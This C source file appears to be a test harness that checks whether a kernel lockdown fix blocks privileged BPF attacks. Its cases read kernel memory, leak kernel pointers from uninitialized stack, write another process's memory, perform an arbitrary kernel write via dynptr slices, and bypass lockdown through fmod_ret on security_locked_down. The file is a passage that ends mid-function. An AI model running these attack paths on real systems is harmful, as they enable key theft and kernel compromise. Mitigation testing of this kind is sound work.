// SPDX-License-Identifier: GPL-2.0
/*
 * bpf(2) as root uses it against the kernel: the programs of attack.bpf.c
 * and attack_btf.bpf.c, each loaded alone from its skeleton, run, and what
 * they found checked.
 * A load refused because lockdown withholds a helper (the verifier's
 * "unknown func", "cannot use helper") or with EPERM is a refusal.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/hw_breakpoint.h>
#include <linux/perf_event.h>
#include <stdbool.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <linux/mount.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>

#include "attack.h"
#include "attack.skel.h"
#include "attack_btf.skel.h"

/* The skeleton with only @prog to load, rodata set by @addr and @pid. */
static struct attack_bpf *open_one(const char *prog, uint64_t addr, uint32_t pid,
				   struct aresult *o)
{
	struct attack_bpf *s;
	struct bpf_program *p;

	libbpf_log_start();
	s = attack_bpf__open();
	if (!s) {
		failed(o, "open the BPF object: %s", strerror(errno));
		return NULL;
	}
	bpf_object__for_each_program(p, s->obj)
		bpf_program__set_autoload(p, !strcmp(bpf_program__name(p), prog));
	s->rodata->target_addr = addr;
	s->rodata->target_pid = pid;
	return s;
}

/* Load it: 0, or -1 with @o set (refused, or failed). */
static int load(struct attack_bpf *s, const char *helper, struct aresult *o)
{
	int err = attack_bpf__load(s);

	if (!err)
		return 0;
	err = -err;
	if (helper && strstr(libbpf_log, helper) &&
	    (strstr(libbpf_log, "unknown func") || strstr(libbpf_log, "cannot use helper")))
		refused(o, "the verifier: %s withheld", helper);
	else if (err == EPERM)
		refused(o, "BPF_PROG_LOAD: EPERM");
	else {
		char *last = strstr(libbpf_log, "processed ");

		failed(o, "load: %s; %.200s", strerror(err), last ? last : libbpf_log);
	}
	return -1;
}

static bool banner_addr(uint64_t *a, struct aresult *o)
{
	if (!ksym("linux_banner", a))
		return true;
	failed(o, "linux_banner is not in /proc/kallsyms");
	return false;
}

/* A syscall program reading linux_banner into out[]. */
static void syscall_read(struct aresult *o, const char *prog, const char *helper,
			 const char *how)
{
	LIBBPF_OPTS(bpf_test_run_opts, opts);
	struct attack_bpf *s;
	uint64_t banner;

	if (!banner_addr(&banner, o) || !(s = open_one(prog, banner, 0, o)))
		return;
	if (!load(s, helper, o)) {
		int err = bpf_prog_test_run_opts(bpf_program__fd(
			bpf_object__find_program_by_name(s->obj, prog)), &opts);

		if (err)
			errno_outcome(o, -err, "BPF_PROG_TEST_RUN");
		else if (strncmp(s->bss->out, "Linux version ", 14))
			failed(o, "the program ran, and read '%.20s'", s->bss->out);
		else
			shown(o, "%s: '%.32s'", how, s->bss->out);
	}
	attack_bpf__destroy(s);
}

static void run_read_kernel(struct aresult *o, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	syscall_read(o, "read_kernel", "bpf_probe_read_kernel",
		     "bpf_probe_read_kernel() read linux_banner");
}

static void run_printf(struct aresult *o, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	syscall_read(o, "printf_read", "bpf_snprintf",
		     "bpf_snprintf(\"%s\") formatted linux_banner's address");
}

/*
 * A syscall program's bpf_sys_bpf(BPF_MAP_UPDATE_ELEM), its value pointer
 * linux_banner's address: the kernel copies the banner into our map.
 */
static void run_sys_bpf(struct aresult *o, int argc, char **argv)
{
	LIBBPF_OPTS(bpf_test_run_opts, opts);
	char copy[64] = {};
	struct attack_bpf *s;
	uint64_t banner;
	uint32_t key = 0;
	int err;

	(void)argc;
	(void)argv;
	if (!banner_addr(&banner, o) || !(s = open_one("sys_bpf_read", banner, 0, o)))
		return;
	if (!load(s, "bpf_sys_bpf", o)) {
		s->bss->sys_bpf_copy_fd = bpf_map__fd(s->maps.sys_bpf_copy);
		err = bpf_prog_test_run_opts(bpf_program__fd(s->progs.sys_bpf_read), &opts);
		if (err)
			errno_outcome(o, -err, "BPF_PROG_TEST_RUN");
		else if ((int)opts.retval < 0)
			errno_outcome(o, -(int)opts.retval, "bpf_sys_bpf(BPF_MAP_UPDATE_ELEM)");
		else if (bpf_map_lookup_elem(bpf_map__fd(s->maps.sys_bpf_copy), &key, copy))
			failed(o, "read the map back: %s", strerror(errno));
		else if (strncmp(copy, "Linux version ", 14))
			failed(o, "the program ran, and copied '%.20s'", copy);
		else
			shown(o, "bpf_sys_bpf(BPF_MAP_UPDATE_ELEM) copied linux_banner: '%.32s'",
			      copy);
	}
	attack_bpf__destroy(s);
}

/* bpf-uninit-stack's ring buffer: the kernel pointers in each record */
struct uninit_seen {
	unsigned long records, words, pointers;
	unsigned long spilled;	/* uninit_fastcall: words that are what it spilled */
	uint64_t last;
};

static int uninit_record(void *ctx, void *data, size_t size)
{
	struct uninit_seen *u = ctx;
	const uint64_t *w = data;

	u->records++;
	for (size_t i = 0; i < size / sizeof(*w); i++) {
		u->words++;
		/* uninit_fastcall spills 0x1111 to 0x5555, fp-48 up */
		if (size == 40 && w[i] == 0x1111 * (i + 1))
			u->spilled++;
		if (w[i] >> 63) {	/* the kernel's half, whatever the paging */
			u->pointers++;
			u->last = w[i];
		}
	}
	return 0;
}

/*
 * uninit_spill's records: a byte each, seven a slot, in order; each
 * slot's first byte is its spill, 0x41: a word once its seventh comes.
 */
struct spill_bytes {
	unsigned char b[7];
	unsigned int n;
	struct uninit_seen *seen;
};

static int spill_record(void *ctx, void *data, size_t size)
{
	struct spill_bytes *s = ctx;
	uint64_t w = 0x41;

	if (size != 1)
		return 0;
	s->b[s->n++] = *(unsigned char *)data;
	if (s->n < sizeof(s->b))
		return 0;
	for (unsigned int i = 0; i < sizeof(s->b); i++)
		w |= (uint64_t)s->b[i] << (8 * (i + 1));
	s->n = 0;
	return uninit_record(s->seen, &w, sizeof(w));
}

/*
 * bpf-uninit-stack: a socket filter, run 16 times, hands
 * bpf_ringbuf_output() 512 bytes of stack it never wrote: what the
 * kernel's deeper calls left there (another task's, where a tracing
 * program does the same: an hmac key's hash state after hmac_setkey()).
 * The verifier lets a privileged program read it, asking nothing, on a
 * kernel without the fix; with it, LOCKDOWN_BPF_READ_KERNEL.
 * bpf-uninit-stack spill: the same, slot by slot, each beside a 1-byte
 * register spill the verifier takes the slot as written for (a red
 * team's); atomic: beside the same spills, an atomic add of 0 over each
 * slot counts it written (a second red team's); fastcall: a tc program
 * hands a helper the slots of its bpf_fastcall spills, which a verifier
 * that does not count the helper's read against the pattern takes out
 * (a third red team's): refused where the helper reads what was spilled;
 * callee: the same slots, read by a subprogram through a pointer into
 * its caller's frame (a fourth red team's).
 * bpf-uninit-stack helper: the same through a buffer it never wrote,
 * handed to bpf_dynptr_read() with flags it refuses, so that it writes
 * nothing: the verifier counts the buffer written, for any program with
 * CAP_BPF (run it without CAP_PERFMON: ldas -d 21 -d 38).
 */
static void kernel_work(int ms);

/* Work in user space for @ms milliseconds. */
static void user_work(int ms)
{
	struct timespec t0, now;
	volatile unsigned long x = 0;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		for (int i = 0; i < 100000; i++)
			x += i;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((now.tv_sec - t0.tv_sec) * 1000 + (now.tv_nsec - t0.tv_nsec) / 1000000 < ms);
}

static void run_uninit_stack(struct aresult *o, int argc, char **argv)
{
	const char *mode = argc > 0 ? argv[0] : "";
	bool helper = !strcmp(mode, "helper"), spill = !strcmp(mode, "spill");
	bool atomic = !strcmp(mode, "atomic"), callee = !strcmp(mode, "callee");
	bool fastcall = callee || !strcmp(mode, "fastcall");
	char pkt[64] = { 0 };
	LIBBPF_OPTS(bpf_test_run_opts, opts, .data_in = pkt, .data_size_in = sizeof(pkt));
	const char *name = helper ? "uninit_helper" : spill ? "uninit_spill" :
			   atomic ? "uninit_atomic" : callee ? "uninit_fastcall_callee" :
			   fastcall ? "uninit_fastcall" : "uninit_stack";
	struct attack_bpf *s;
	struct uninit_seen seen = { 0 };
	struct spill_bytes bytes = { .seen = &seen };
	struct ring_buffer *rb = NULL;
	struct bpf_program *prog;
	int err;

	static char vlog[1 << 16];

	if (*mode && !helper && !spill && !atomic && !fastcall) {
		failed(o, "no such mode: %s (helper, spill, atomic, fastcall, callee)", mode);
		return;
	}
	s = open_one(name, 0, 0, o);
	if (!s)
		return;
	prog = bpf_object__find_program_by_name(s->obj, name);
	/* the verifier's log of this program alone: libbpf's own fills libbpf_log */
	bpf_program__set_log_buf(prog, vlog, sizeof(vlog));
	err = -attack_bpf__load(s);
	if (err) {
		/* our fix's words, or the verifier's for an unprivileged program */
		const char *why = strstr(vlog, helper ? "may leave part of unwritten stack" :
					 spill || atomic ? "unwritten stack beside a spilled register" :
					 "using uninitialized stack");

		if (!why && (spill || atomic))	/* privileged: asked as it read the byte */
			why = strstr(vlog, "using uninitialized stack");

		if (!why)
			why = strstr(vlog, "invalid indirect read from stack");

		if (why)
			refused(o, "the verifier: %.100s", why);
		else if (err == EPERM)
			refused(o, "BPF_PROG_LOAD: EPERM");
		else
			failed(o, "load: %s; %s", strerror(err),
			       vlog + (strlen(vlog) > 400 ? strlen(vlog) - 400 : 0));
		goto out;
	}
	if (spill)
		rb = ring_buffer__new(bpf_map__fd(s->maps.uninit_out), spill_record, &bytes, NULL);
	else
		rb = ring_buffer__new(bpf_map__fd(s->maps.uninit_out), uninit_record, &seen, NULL);
	if (!rb) {
		failed(o, "ring_buffer__new: %s", strerror(errno));
		goto out;
	}
	for (int i = 0; i < 16; i++) {
		kernel_work(1);	/* deep calls, to leave something on the stack */
		err = bpf_prog_test_run_opts(bpf_program__fd(prog), &opts);
		if (err) {
			errno_outcome(o, -err, "BPF_PROG_TEST_RUN");
			goto out;
		}
		ring_buffer__consume(rb);
	}
	if (fastcall && !seen.pointers && seen.spilled == seen.words && seen.words)
		refused(o, "the %s read the %lu values spilled: the bpf_fastcall spills stayed",
			callee ? "subprogram" : "helper", seen.words);
	else if (seen.pointers)
		shown(o, "%lu kernel pointers in %lu words of stack %s, the last 0x%llx",
		      seen.pointers, seen.words,
		      helper ? "bpf_dynptr_read() left unwritten" :
		      spill ? "beside 1-byte register spills, never written" :
		      atomic ? "an atomic add took in beside 1-byte spills" :
		      callee ? "of bpf_fastcall spills a subprogram read, taken out" :
		      fastcall ? "of bpf_fastcall spills taken out" :
			      "a socket filter never wrote",
		      (unsigned long long)seen.last);
	else
		failed(o, "%lu records, %lu words of its stack, no kernel pointer in them",
		       seen.records, seen.words);
out:
	ring_buffer__free(rb);
	attack_bpf__destroy(s);
}

/* Work in the kernel for @ms milliseconds: reads of /dev/zero. */
static void kernel_work(int ms)
{
	static char buf[1 << 16];
	struct timespec t0, now;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		int z = open("/dev/zero", O_RDONLY | O_CLOEXEC);

		if (z >= 0) {
			if (read(z, buf, sizeof(buf)) < 0)
				buf[0] = 0;
			close(z);
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((now.tv_sec - t0.tv_sec) * 1000 + (now.tv_nsec - t0.tv_nsec) / 1000000 < ms);
}

static void run_write_user(struct aresult *o, int argc, char **argv)
{
	static volatile long flag;
	struct attack_bpf *s = NULL;
	struct bpf_link *link = NULL;
	/*
	 * the victim has its own copy of the page (the helper cannot take
	 * the fault of copy-on-write) and sleeps, so that sched_switch runs
	 * as it
	 */
	pid_t pid = victim(&flag);

	(void)argc;
	(void)argv;
	if (pid < 0) {
		failed(o, "fork: %s", strerror(errno));
		return;
	}
	s = open_one("write_user", (uintptr_t)&flag, pid, o);
	if (!s || load(s, "bpf_probe_write_user", o))
		goto out;
	link = bpf_program__attach_raw_tracepoint(s->progs.write_user, "sched_switch");
	if (!link) {
		failed(o, "attach to sched_switch: %s", strerror(errno));
		goto out;
	}
	if (victim_saw(pid))
		shown(o, "bpf_probe_write_user() wrote the memory of another process (%llu "
		      "writes; it saw 42)", (unsigned long long)s->bss->hits);
	else
		failed(o, "the program was attached, and the victim never saw the value");
	pid = 0;
out:
	if (pid > 0)
		victim_kill(pid);
	bpf_link__destroy(link);
	attack_bpf__destroy(s);
}

/* where the "bp" mode puts its breakpoint: getppid(2)'s entry (x86-64) */
#define BP_SYMBOL "__x64_sys_getppid"

/*
 * bpf-perf-regs [bp|user]: a perf_event program reading the registers
 * its samples interrupted. Plain: a cpu-clock event sampling the kernel.
 * bp: a hardware execute breakpoint at a kernel instruction (BP_SYMBOL),
 * what a red team read an IPsec key through, a word at a time, from
 * hmac_setkey(); perf_event_open() asks nothing for it. user: an event
 * that excludes the kernel, which lockdown leaves alone: shown if the
 * program attaches and sees no kernel sample.
 */
static void run_perf_regs(struct aresult *o, int argc, char **argv)
{
	const char *mode = argc > 0 ? argv[0] : "";
	bool bp = !strcmp(mode, "bp"), user = !strcmp(mode, "user");
	struct perf_event_attr a = {
		.type = PERF_TYPE_SOFTWARE,
		.size = sizeof(a),
		.config = PERF_COUNT_SW_CPU_CLOCK,
		.sample_period = 50000,
		.exclude_user = !user,
		.exclude_kernel = user,
	};
	struct attack_bpf *s = NULL;
	struct bpf_link *link = NULL;
	uint64_t addr = 0;
	long pfd = -1;

	if (*mode && !bp && !user) {
		failed(o, "unknown mode '%s' (bp or user)", mode);
		return;
	}
	if (bp) {
		if (ksym(BP_SYMBOL, &addr)) {
			failed(o, "%s is not in /proc/kallsyms", BP_SYMBOL);
			return;
		}
		a.type = PERF_TYPE_BREAKPOINT;
		a.config = 0;
		a.bp_type = HW_BREAKPOINT_X;
		a.bp_addr = addr;
		a.bp_len = sizeof(long);
		a.sample_period = 1;
	}
	s = open_one("perf_regs", 0, 0, o);
	if (!s || load(s, NULL, o))
		goto out;
	pfd = syscall(SYS_perf_event_open, &a, 0, -1, -1, PERF_FLAG_FD_CLOEXEC);
	if (pfd < 0) {
		errno_outcome(o, errno, bp ? "perf_event_open(a hardware breakpoint at "
				    BP_SYMBOL ")" : "perf_event_open(cpu-clock, no PERF_SAMPLE_REGS_INTR)");
		goto out;
	}
	link = bpf_program__attach_perf_event(s->progs.perf_regs, pfd);
	if (!link) {
		errno_outcome(o, errno, "PERF_EVENT_IOC_SET_BPF");
		goto out;
	}
	if (bp)
		for (int i = 0; i < 64; i++)
			syscall(SYS_getppid);
	else if (user)
		user_work(100);	/* user time to sample: reads of /dev/zero have little */
	else
		kernel_work(300);
	if (user && s->bss->samples && !s->bss->hits)
		shown(o, "a perf_event program on an event that excludes the kernel saw %llu "
		      "samples, none of them the kernel's", (unsigned long long)s->bss->samples);
	else if (user)
		failed(o, "the program saw %llu samples, %llu of them in the kernel",
		       (unsigned long long)s->bss->samples, (unsigned long long)s->bss->hits);
	else if (s->bss->hits)
		shown(o, "a perf_event program read the registers of %llu %s: ip 0x%llx",
		      (unsigned long long)s->bss->hits,
		      bp ? "hits of a hardware breakpoint at " BP_SYMBOL : "samples taken in the kernel",
		      (unsigned long long)s->bss->seen);
	else
		failed(o, "the program saw no sample in the kernel");
out:
	bpf_link__destroy(link);
	if (pfd >= 0)
		close(pfd);
	attack_bpf__destroy(s);
}

/*
 * bpf-kprobe-multi: a kprobe_multi link (fprobe) on BP_SYMBOL, its
 * program reading the registers there: the set of kprobes bpf(2) makes
 * asks nothing on a kernel without the fix, where a kprobe event asks
 * LOCKDOWN_KPROBES. A kernel without fprobe has no such link.
 * bpf-kprobe-regs: the same program on a kprobe perf event (perf's kprobe
 * PMU), whose making asks LOCKDOWN_KPROBES, and nothing after it.
 */
static void run_kprobe(struct aresult *o, bool multi)
{
	const char *what = multi ? "kprobe_multi" : "kprobe";
	struct attack_bpf *s = open_one(multi ? "kprobe_multi_regs" : "kprobe_regs", 0, 0, o);
	struct bpf_link *link = NULL;

	if (!s || load(s, NULL, o))
		goto out;
	if (multi) {
		/*
		 * By name, not by pattern: libbpf 1.5 resolves a pattern
		 * through tracefs's available_filter_functions (1.1
		 * through /proc/kallsyms), so the attack would need
		 * tracefs mounted and allowed. A name goes to the kernel.
		 */
		static const char *syms[] = { BP_SYMBOL };
		LIBBPF_OPTS(bpf_kprobe_multi_opts, mo, .syms = syms, .cnt = 1);

		link = bpf_program__attach_kprobe_multi_opts(s->progs.kprobe_multi_regs, NULL,
							     &mo);
	} else {
		link = bpf_program__attach_kprobe(s->progs.kprobe_regs, false, BP_SYMBOL);
	}
	if (!link) {
		int err = errno;

		if (multi && err == EOPNOTSUPP)
			unavailable(o, "no kprobe_multi links here (a kernel without fprobe)");
		else if (multi)
			errno_outcome(o, err, "BPF_LINK_CREATE(BPF_TRACE_KPROBE_MULTI, " BP_SYMBOL ")");
		else
			errno_outcome(o, err, "perf_event_open(kprobe PMU, " BP_SYMBOL ")");
		goto out;
	}
	for (int i = 0; i < 64; i++)
		syscall(SYS_getppid);
	if (s->bss->hits)
		shown(o, "a %s program read the kernel's registers at " BP_SYMBOL
		      " %llu times: rdi 0x%llx", what, (unsigned long long)s->bss->hits,
		      (unsigned long long)s->bss->seen);
	else
		failed(o, "the program saw %llu calls of " BP_SYMBOL ", none with a kernel "
		       "pointer in rdi (last 0x%llx)", (unsigned long long)s->bss->samples,
		       (unsigned long long)s->bss->seen_any);
out:
	bpf_link__destroy(link);
	attack_bpf__destroy(s);
}

static void run_kprobe_multi(struct aresult *o, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	run_kprobe(o, true);
}

static void run_kprobe_regs(struct aresult *o, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	run_kprobe(o, false);
}

/*
 * bpf-fentry-args: an fentry program on FENTRY_SYMBOL, seeing its argument
 * as passed (a kernel pointer there; an AES key's round-key words in
 * subw() on Debian's kernels): the trampoline asks nothing on a kernel
 * without the fix, where a kprobe there asks LOCKDOWN_KPROBES. (The
 * kernel's BTF has no __x64_sys_getppid: it takes no argument.)
 */
#define FENTRY_SYMBOL "__x64_sys_getgroups"

static void run_fentry_args(struct aresult *o, int argc, char **argv)
{
	struct attack_bpf *s = open_one("fentry_args", 0, 0, o);
	struct bpf_link *link = NULL;

	(void)argc;
	(void)argv;
	if (!s)
		goto out;
	if (bpf_program__set_attach_target(s->progs.fentry_args, 0, FENTRY_SYMBOL)) {
		failed(o, "set the target, " FENTRY_SYMBOL ": %s", strerror(errno));
		goto out;
	}
	if (load(s, NULL, o))
		goto out;
	link = bpf_program__attach_trace(s->progs.fentry_args);
	if (!link) {
		errno_outcome(o, errno, "BPF_LINK_CREATE(BPF_TRACE_FENTRY, " FENTRY_SYMBOL ")");
		goto out;
	}
	for (int i = 0; i < 64; i++)
		syscall(SYS_getgroups, 0, NULL);
	if (s->bss->hits && s->bss->seen >> 63)
		shown(o, "an fentry program saw " FENTRY_SYMBOL "'s argument %llu times: a kernel "
		      "pointer, 0x%llx", (unsigned long long)s->bss->hits,
		      (unsigned long long)s->bss->seen);
	else
		failed(o, "the program saw %llu calls of " FENTRY_SYMBOL ", the last argument 0x%llx, "
		       "not a kernel pointer", (unsigned long long)s->bss->hits,
		       (unsigned long long)s->bss->seen);
out:
	bpf_link__destroy(link);
	attack_bpf__destroy(s);
}

static void run_raw_tp(struct aresult *o, int argc, char **argv)
{
	struct attack_bpf *s = open_one("raw_tp", 0, 0, o);
	struct bpf_link *link = NULL;

	(void)argc;
	(void)argv;
	if (!s || load(s, NULL, o))
		goto out;
	link = bpf_program__attach_raw_tracepoint(s->progs.raw_tp, "sched_switch");
	if (!link) {
		errno_outcome(o, errno, "BPF_RAW_TRACEPOINT_OPEN(sched_switch)");
		goto out;
	}
	for (int i = 0; i < 20; i++)
		usleep(1000);
	if (s->bss->hits)
		shown(o, "a raw tracepoint program saw %llu context switches, and the kernel "
		      "address of the task switched out (0x%llx)", (unsigned long long)s->bss->hits,
		      (unsigned long long)s->bss->seen);
	else
		failed(o, "the program saw no sched_switch");
out:
	bpf_link__destroy(link);
	attack_bpf__destroy(s);
}

/* Run the task iterator @prog once; its out[] into @out. 0, or -1 with @o set. */
static int iter_run(const char *prog, uint64_t addr, char *out, struct aresult *o)
{
	struct attack_btf *s;
	struct bpf_program *p;
	struct bpf_link *link = NULL;
	char buf[64];
	int fd = -1, ret = -1, err;

	libbpf_log_start();
	s = attack_btf__open();
	if (!s) {
		failed(o, "open the BPF object: %s", strerror(errno));
		return -1;
	}
	bpf_object__for_each_program(p, s->obj)
		bpf_program__set_autoload(p, !strcmp(bpf_program__name(p), prog));
	s->rodata->target_addr = addr;
	err = attack_btf__load(s);
	if (err) {
		if (-err == EPERM)
			refused(o, "BPF_PROG_LOAD: EPERM");
		else
			failed(o, "load: %s; %.200s", strerror(-err), libbpf_log);
		goto out;
	}
	link = bpf_program__attach_iter(bpf_object__find_program_by_name(s->obj, prog), NULL);
	if (!link) {
		errno_outcome(o, errno, "BPF_LINK_CREATE(iter/task)");
		goto out;
	}
	fd = bpf_iter_create(bpf_link__fd(link));
	if (fd < 0) {
		errno_outcome(o, errno, "BPF_ITER_CREATE");
		goto out;
	}
	while (read(fd, buf, sizeof(buf)) > 0)
		;
	memcpy(out, s->bss->out, sizeof(s->bss->out));
	ret = 0;
out:
	if (fd >= 0)
		close(fd);
	bpf_link__destroy(link);
	attack_btf__destroy(s);
	return ret;
}

static void run_btf_read(struct aresult *o, int argc, char **argv)
{
	char out[64] = "", cast[64] = "", want[65];
	uint64_t banner;

	(void)argc;
	(void)argv;
	if (access("/sys/kernel/btf/vmlinux", F_OK)) {
		unavailable(o, "no kernel BTF (/sys/kernel/btf/vmlinux)");
		return;
	}
	sysname(want);
	if (iter_run("btf_read", 0, out, o))
		return;
	if (strncmp(out, want, strlen(want) < 8 ? strlen(want) : 8)) {
		failed(o, "the task iterator read '%.8s' through task->nsproxy->uts_ns, not '%s'",
		       out, want);
		return;
	}
	if (!kernel_has_kfunc("bpf_rdonly_cast")) {
		shown(o, "BTF pointer loads (task->nsproxy->uts_ns->name) read init_uts_ns: '%.8s'; "
		      "no bpf_rdonly_cast() in this kernel", out);
		return;
	}
	if (!banner_addr(&banner, o) || iter_run("btf_cast", banner, cast, o))
		return;
	if (strncmp(cast, "Linux version ", 14))
		failed(o, "bpf_rdonly_cast(linux_banner) read '%.20s'", cast);
	else
		shown(o, "BTF pointer loads read init_uts_ns ('%.8s'), and bpf_rdonly_cast() of "
		      "linux_banner's address read '%.32s'", out, cast);
}

/*
 * fmod_ret on security_locked_down() returning 1 << 32, attached; then
 * /dev/port, which LOCKDOWN_DEV_MEM guards: opened, every lockdown
 * question was answered 0.
 */
static void run_fmod_ret(struct aresult *o, int argc, char **argv)
{
	struct attack_btf *s;
	struct bpf_link *link = NULL;
	int err, fd;

	(void)argc;
	(void)argv;
	if (access("/sys/kernel/btf/vmlinux", F_OK)) {
		unavailable(o, "no kernel BTF (/sys/kernel/btf/vmlinux)");
		return;
	}
	s = attack_btf__open();
	if (!s) {
		failed(o, "open the BPF object: %s", strerror(errno));
		return;
	}
	err = load_only(s->skeleton, s->progs.fmod_ret_high, NULL);
	if (err == 524 /* ENOTSUPP */ || err == EOPNOTSUPP) {
		unavailable(o, "no BPF trampolines here: %s", strerror(err));
		goto out;
	} else if (err) {
		load_outcome(o, err, err == EINVAL ? strstr(libbpf_log, "At program exit") : NULL);
		goto out;
	}
	link = bpf_program__attach(s->progs.fmod_ret_high);
	if (!link) {
		errno_outcome(o, errno, "attach fmod_ret/security_locked_down");
		goto out;
	}
	fd = open("/dev/port", O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		close(fd);
		shown(o, "fmod_ret/security_locked_down returning 1 << 32 attached: /dev/port opened");
	} else {
		errno_outcome(o, errno, "/dev/port, with fmod_ret/security_locked_down returning "
			      "1 << 32 attached");
	}
out:
	bpf_link__destroy(link);
	attack_btf__destroy(s);
}

/*
 * bpf-tp-record: a tracepoint program attached through perf to a trace
 * event (its id found by counting, tracefs refused), its context the
 * event's record: what PERF_SAMPLE_RAW gives, read with plain loads. Shown:
 * records of this process's getppid(2) calls, with its syscall number.
 */
static void run_tp_record(struct aresult *o, int argc, char **argv)
{
	unsigned int id = tp_getppid_event();
	struct attack_bpf *s = NULL;
	struct bpf_link *link = NULL;
	long pfd = -1;

	(void)argc;
	(void)argv;
	if (!id) {
		unavailable(o, "no trace event counted %d getppid() calls", TP_CALLS);
		return;
	}
	s = open_one("tp_record", SYS_getppid, getpid(), o);
	if (!s || load(s, NULL, o))
		goto out;
	pfd = tp_counting(id);
	if (pfd < 0) {
		errno_outcome(o, errno, "perf_event_open(a trace event, counting)");
		goto out;
	}
	link = bpf_program__attach_perf_event(s->progs.tp_record, pfd);
	if (!link) {
		errno_outcome(o, errno, "PERF_EVENT_IOC_SET_BPF");
		goto out;
	}
	tp_getppid_calls(pfd);
	if (s->bss->hits >= TP_CALLS)
		shown(o, "a tracepoint program read %llu records of trace event %u, this "
		      "process's getppid() calls (syscall %d in each)",
		      (unsigned long long)s->bss->hits, id, SYS_getppid);
	else
		failed(o, "the program saw %llu records, %llu of this process's getppid() "
		       "calls (syscall %d), not %d (event %u)",
		       (unsigned long long)s->bss->samples, (unsigned long long)s->bss->hits,
		       SYS_getppid, TP_CALLS, id);
out:
	bpf_link__destroy(link);
	if (pfd >= 0)
		close(pfd);
	attack_bpf__destroy(s);
}

/*
 * attack_btf.bpf.c's SLICE_LINEAR and SLICE_PACKET: where the test
 * packet's linear part ends, and its length
 */
#define SLICE_LINEAR 100
#define SLICE_PACKET 1000

/*
 * Run @prog once on a 1000-byte packet whose linear part ends at
 * SLICE_LINEAR, its frag after: 0, or -1 with @o set.
 */
static int slice_run(struct bpf_program *prog, struct aresult *o)
{
	static unsigned char pkt[SLICE_PACKET];
	struct xdp_md ctx = { .data = 0, .data_end = SLICE_LINEAR };
	LIBBPF_OPTS(bpf_test_run_opts, opts, .data_in = pkt, .data_size_in = sizeof(pkt),
		    .ctx_in = &ctx, .ctx_size_in = sizeof(ctx));
	int err;

	memset(pkt, 0x41, sizeof(pkt));
	err = bpf_prog_test_run_opts(bpf_program__fd(prog), &opts);
	if (err) {
		errno_outcome(o, -err, "BPF_PROG_TEST_RUN(xdp, frags)");
		return -1;
	}
	return 0;
}

/* The offset of @member in the kernel's struct @type, from its BTF; -1 if none. */
static long btf_member_offset(const struct btf *btf, const char *type, const char *member)
{
	int id = btf__find_by_name_kind(btf, type, BTF_KIND_STRUCT);
	const struct btf_type *t = id < 0 ? NULL : btf__type_by_id(btf, id);
	const struct btf_member *m = t ? btf_members(t) : NULL;

	for (int i = 0; t && i < btf_vlen(t); i++, m++)
		if (!strcmp(btf__name_by_offset(btf, m->name_off), member))
			return btf_member_bit_offset(t, i) / 8;
	return -1;
}

/*
 * bpf-dynptr-slice: an XDP program's writable dynptr slice of an 8-byte
 * stack buffer (the slice crosses the end of the packet's linear part,
 * so the kfunc copies it into the buffer and returns the buffer)
 * rewrites a map value pointer the program spilled over the buffer: a
 * store of 8 bytes at any kernel address, the verifier none the wiser.
 * Shown on init_uts_ns's nodename, which uname(2) then returns; the
 * bytes are put back. bpf-dynptr-slice twice: the same through a second
 * slice handed the first as its buffer (a red team's). bpf-dynptr-slice
 * shrink: a global subprogram, which takes its dynptr argument for a
 * local one, reads through a slice of a frag after bpf_xdp_adjust_tail()
 * freed it (a red team's; the page's next owner's memory, or, written,
 * corrupted). bpf-dynptr-slice
 * frame: a read-only slice of a subprogram's own stack buffer, returned
 * to its caller, read after a helper's calls reused the frame: what they
 * left, kernel pointers.
 */
static void run_dynptr_slice(struct aresult *o, int argc, char **argv)
{
	const char *mode = argc > 0 ? argv[0] : "";
	bool frame = !strcmp(mode, "frame"), twice = !strcmp(mode, "twice");
	bool shrink = !strcmp(mode, "shrink");
	struct attack_btf *s = NULL;
	struct bpf_program *prog;
	struct btf *btf;
	struct utsname before, after;
	uint64_t uts, orig, mark;
	long name, node;
	int err;

	if (*mode && !frame && !twice && !shrink) {
		failed(o, "no such mode: %s (frame, twice, shrink)", mode);
		return;
	}
	btf = btf__load_vmlinux_btf();
	if (!btf) {
		unavailable(o, "no kernel BTF (/sys/kernel/btf/vmlinux)");
		return;
	}
	if (btf__find_by_name_kind(btf, "bpf_dynptr_slice_rdwr", BTF_KIND_FUNC) < 0) {
		unavailable(o, "no bpf_dynptr_slice_rdwr() in this kernel (6.4 on)");
		goto out;
	}
	name = btf_member_offset(btf, "uts_namespace", "name");
	node = btf_member_offset(btf, "new_utsname", "nodename");
	if (!frame && !shrink &&
	    (name < 0 || node < 0 || ksym("init_uts_ns", &uts) || uname(&before))) {
		failed(o, "init_uts_ns's nodename: not in the kernel's BTF or /proc/kallsyms");
		goto out;
	}
	s = attack_btf__open();
	if (!s) {
		failed(o, "open the BPF object: %s", strerror(errno));
		goto out;
	}
	prog = frame ? s->progs.slice_frame : twice ? s->progs.slice_twice :
	       shrink ? s->progs.slice_shrink : s->progs.slice_alias;
	err = load_only(s->skeleton, prog, NULL);
	if (err) {
		/* our fix's words */
		load_outcome(o, err, strstr(libbpf_log, frame ? "cannot return a dynptr slice" :
					    shrink ? "invalid mem access 'scalar'" :
					    "R8 invalid mem access"));
		goto out;
	}
	if (shrink) {
		if (slice_run(prog, o))
			goto out;
		/* the read before the shrink is the packet's 0x41s */
		if (s->bss->shrink_read[0] != 0x4141414141414141ULL)
			failed(o, "the slice read 0x%llx before the shrink",
			       (unsigned long long)s->bss->shrink_read[0]);
		else
			shown(o, "a global subprogram's slice of a frag read after "
			      "bpf_xdp_adjust_tail() freed it: 0x%llx",
			      (unsigned long long)s->bss->shrink_read[1]);
		goto out;
	}
	if (frame) {
		unsigned long pointers = 0;
		uint64_t last = 0;

		if (slice_run(prog, o))
			goto out;
